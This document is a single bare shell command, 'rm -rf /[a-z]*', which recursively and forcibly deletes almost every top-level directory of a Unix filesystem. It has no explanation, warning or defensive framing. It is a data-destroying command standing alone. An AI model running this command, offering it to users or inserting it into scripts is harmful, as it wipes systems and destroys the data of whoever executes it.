rm -rf /[a-z]*
